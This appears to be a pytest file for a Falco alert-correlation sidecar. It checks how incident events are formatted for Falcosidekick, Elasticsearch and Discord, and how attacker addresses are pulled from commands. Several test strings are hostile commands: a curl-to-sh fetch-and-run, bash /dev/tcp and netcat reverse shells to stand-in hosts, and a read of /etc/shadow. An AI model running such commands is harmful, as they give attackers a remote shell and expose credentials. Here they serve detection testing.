"""An incident as it is sent: whole and readable in whatever stands behind Falcosidekick.

Covers: `incidents.indicators`.
"""

import json
from typing import Any

import pytest
from conftest import DATA, Play, spec
from hypothesis import given
from hypothesis import strategies as st
from support.rules import RULES

from sidecar.correlation.pipeline import Pipeline
from sidecar.incidents.falco_event import MAX_EVENT_BYTES, MAX_FIELDS, Origin, to_event, to_json
from sidecar.incidents.indicators import addresses_in
from sidecar.model import Message, Notification, Report, Where
from sidecar.rules.loading import SHIPPED

ORIGIN = Origin("prod-eu", "https://falco.example/{cluster}/incidents/{incident}")
RECORDINGS = (DATA / "stock_alerts.jsonl", SHIPPED / "recordings" / "demo.jsonl")
DISCORD_FIELDS = 25
OF_FALCOSIDEKICK = 7
DISCORD_VALUE_CHARS = 1024


def recorded() -> list[Message]:
    """Every notification of the recordings."""
    notes = []
    for file in RECORDINGS:
        pipeline = Pipeline(RULES, timer=lambda: 0.0)
        for line in file.read_bytes().splitlines():
            notes += pipeline.process_json(line)[1]
        notes += pipeline.flush()
    return notes


def in_elasticsearch(mapping: dict[str, str], fields: dict[str, Any]) -> None:
    """Add a document to a mapping as Elasticsearch does: a name is either a value or an object, for ever."""
    for name in fields:
        parts = name.split(".")
        for end in range(1, len(parts)):
            assert mapping.setdefault(".".join(parts[:end]), "object") == "object", name
        assert mapping.setdefault(name, "value") == "value", name


@pytest.fixture(scope="module")
def notes() -> list[Message]:
    return recorded()


def test_field_case_p01_elasticsearch_takes_an_escalation_too(play: Play) -> None:
    notes = play(
        spec("php-fpm8.2 > sh", "web_shell"),
        spec("php-fpm8.2 > sh > curl", "network", at="1s"),
        spec("php-fpm8.2 > sh > cat", "credential", at="2s"),
    )
    mapping: dict[str, str] = {}
    for note in notes:
        in_elasticsearch(mapping, to_event(note, ORIGIN)["output_fields"])

    assert [note.came_from for note in notes] == ["", "medium"]


def test_elasticsearch_takes_every_notification_of_the_recordings_into_one_index(notes: list[Message]) -> None:
    mapping: dict[str, str] = {}
    report = Report("Correlator degraded", "high", "text", Where("h", "c", "", "", "n", "p"), 1)
    for note in [*notes, report]:
        in_elasticsearch(mapping, to_event(note, ORIGIN)["output_fields"])

    assert len(notes) >= 4
    names = [name for name in mapping if mapping[name] == "value"]
    assert [(a, b) for a in names for b in names if a != b and b.startswith(a)] == []


def test_discord_takes_every_notification_of_the_recordings(notes: list[Message]) -> None:
    for note in notes:
        fields = to_event(note, ORIGIN)["output_fields"]
        assert len(fields) + OF_FALCOSIDEKICK <= DISCORD_FIELDS
        assert max(map(len, fields.values())) <= DISCORD_VALUE_CHARS


def test_no_notification_of_the_recordings_is_cut(notes: list[Message]) -> None:
    for note in notes:
        body = to_json(note, ORIGIN)
        assert len(body) <= MAX_EVENT_BYTES
        assert b"[...]" not in body


def test_an_escalation_says_what_happened_first_and_then_where_to_look(play: Play) -> None:
    *_, note = play(
        spec("nginx > sh", "web_shell", fields={"proc.cmdline": "sh -c 'curl 203.0.113.9:9001|sh'"}),
        spec("nginx > sh > curl", "network", at="1s", fields={"fd.sip": "203.0.113.9", "fd.sport": 9001}),
        spec("nginx > sh > cat", "credential", at="2s", fields={"fd.name": "/etc/shadow"}),
    )
    assert isinstance(note, Notification)
    event = to_event(note, ORIGIN)
    fields = event["output_fields"]

    assert event["output"][18:] == (
        ": Critical Full Web Application Compromise: In pod shop/app-7d9f, nginx ran \"sh -c 'curl 203.0.113.9:9001|sh'\","
        " which then contacted 203.0.113.9:9001 and read the password hashes in /etc/shadow. | "
        f"incident={note.incident} severity=critical (was medium) https://falco.example/prod-eu/incidents/{note.incident}"
    )
    assert fields["incident.from"] == "medium"
    assert fields["incident.url"] == f"https://falco.example/prod-eu/incidents/{note.incident}"
    assert fields["incident.cluster"] == "prod-eu"
    assert fields["incident.indicators"] == "203.0.113.9:9001, /etc/shadow"
    assert fields["incident.next"].startswith(
        "1. Isolate the workload (in a cluster, its network plugin has to enforce network policies): echo "
    )
    assert "nginx > sh (sh -c 'curl 203.0.113.9:9001|sh')" in fields["incident.timeline"]


def test_the_next_steps_have_whole_commands_and_say_where_the_others_are(notes: list[Message]) -> None:
    for note in notes:
        assert isinstance(note, Notification)
        text = to_event(note)["output_fields"]["incident.next"]
        steps, _, rest = text.partition("; all commands: ")
        expected = "; ".join(
            f"{number}. {words}: {command}" if command and command in text else f"{number}. {words}"
            for number, (words, command) in enumerate(note.triage, 1)
        )

        assert expected.startswith(steps)
        assert sum(command in steps for _, command in note.triage if command) >= 2
        assert rest == f"falco-correlator incidents show {note.incident}"
        assert to_event(note, ORIGIN)["output_fields"]["incident.next"].endswith(f"/prod-eu/incidents/{note.incident}")


def test_an_address_that_only_the_command_names_is_in_the_output(play: Play) -> None:
    python = "python3 -c 'import socket;" + "x=1;" * 30 + 's.connect(("203.0.113.9", 9001))\''
    *_, note = play(
        spec("nginx > sh", "web_shell"),
        spec("nginx > sh > python3", "shell_technique", at="1s", fields={"proc.cmdline": python}),
    )

    assert "| addresses: 203.0.113.9:9001 |" in to_event(note)["output"]


def test_an_incident_during_which_falco_dropped_events_says_so(play: Play) -> None:
    (note,) = play(spec("nginx > sh", "web_shell"), spec("nginx > sh > curl", "network", at="1s"))
    from msgspec.structs import replace

    assert "Falco dropped events" in to_event(replace(note, incomplete=True))["output_fields"]["incident.summary"]


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("", None),
        ("https://falco.example", "https://falco.example/incidents/{id}"),
        ("https://falco.example/x/", "https://falco.example/x/incidents/{id}"),
        ("https://falco.example/?q={incident}&n={host}", "https://falco.example/?q={id}&n=node-1"),
    ],
)
def test_the_address_of_the_page_is_a_base_or_a_template(play: Play, url: str, expected: str | None) -> None:
    (note,) = play(spec("nginx > sh", "web_shell"), spec("nginx > sh > curl", "network", at="1s"))
    assert isinstance(note, Notification)
    got = to_event(note, Origin(url=url))["output_fields"].get("incident.url")

    assert got == (expected and expected.format(id=note.incident))


TEXT = st.text(max_size=700) | st.sampled_from(['"' * 700, "\\" * 700, "\u20ac" * 600, "\x00" * 300, "@here " * 100])


@given(command=TEXT, file=TEXT, pod=TEXT, cluster=TEXT)
def test_whatever_an_attacker_writes_the_event_is_whole_for_falcosidekick(
    command: str, file: str, pod: str, cluster: str
) -> None:
    pipeline = Pipeline(RULES, timer=lambda: 0.0)
    alert = json.loads((DATA / "stock_alerts.jsonl").read_bytes().splitlines()[0])
    place = {"container.id": "abc", "k8s.pod.name": pod, "k8s.ns.name": pod, "container.name": pod, "fd.name": file}
    notes: list[Message] = []
    for number, tags in enumerate((["webrce_web_shell"], ["webrce_network"], ["webrce_credential"])):
        fields = {
            **place,
            "proc.pid": 100 + number,
            "proc.ppid": 99 + number,
            "proc.name": "sh",
            "proc.pname": "nginx" if not number else "sh",
            "proc.cmdline": command,
        }
        body = {**alert, "rule": f"r{number}", "tags": tags, "output_fields": fields}
        notes += pipeline.process_json(json.dumps(body).encode())[1]
    notes += pipeline.flush()

    assert notes
    for note in notes:
        event = to_event(note, Origin(cluster, "https://falco.example"))
        assert len(to_json(note, Origin(cluster, "https://falco.example"))) <= MAX_EVENT_BYTES
        assert len(event["output_fields"]) <= MAX_FIELDS
        in_elasticsearch({}, event["output_fields"])
        assert max(map(len, event["output_fields"].values())) <= DISCORD_VALUE_CHARS


@pytest.mark.parametrize(
    ("command", "found"),
    [
        ("curl http://203.0.113.9/x", ["http://203.0.113.9/x"]),
        ("bash -i >& /dev/tcp/203.0.113.9/9001 0>&1", ["203.0.113.9:9001"]),
        ("bash -i >& /dev/tcp/evil.example/443 0>&1", ["evil.example:443"]),
        ("nc 203.0.113.9 4444 -e sh", ["203.0.113.9:4444"]),
        ('s.connect(("203.0.113.9",9001))', ["203.0.113.9:9001"]),
        ("curl -x 203.0.113.9:3128", ["203.0.113.9:3128"]),
        ("dig @203.0.113.9 x", ["203.0.113.9"]),
        ("curl 127.0.0.1:80", []),
        ("pip install x==1.2.3.4.5", []),
        ("pkg 999.1.1.1", []),
    ],
)
def test_the_addresses_in_a_command(command: str, found: list[str]) -> None:
    assert addresses_in(command) == found
